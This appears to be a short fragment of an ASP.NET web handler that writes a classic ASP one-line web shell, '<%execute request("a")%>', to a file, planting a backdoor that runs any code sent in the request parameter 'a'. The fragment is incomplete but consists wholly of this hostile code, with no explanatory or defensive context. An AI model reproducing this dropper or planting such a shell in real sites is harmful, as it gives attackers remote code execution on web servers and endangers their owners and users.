<%@ WebHandler Language="C#" Class="H" %> f.Write("<%execute request(\"a\")%>");
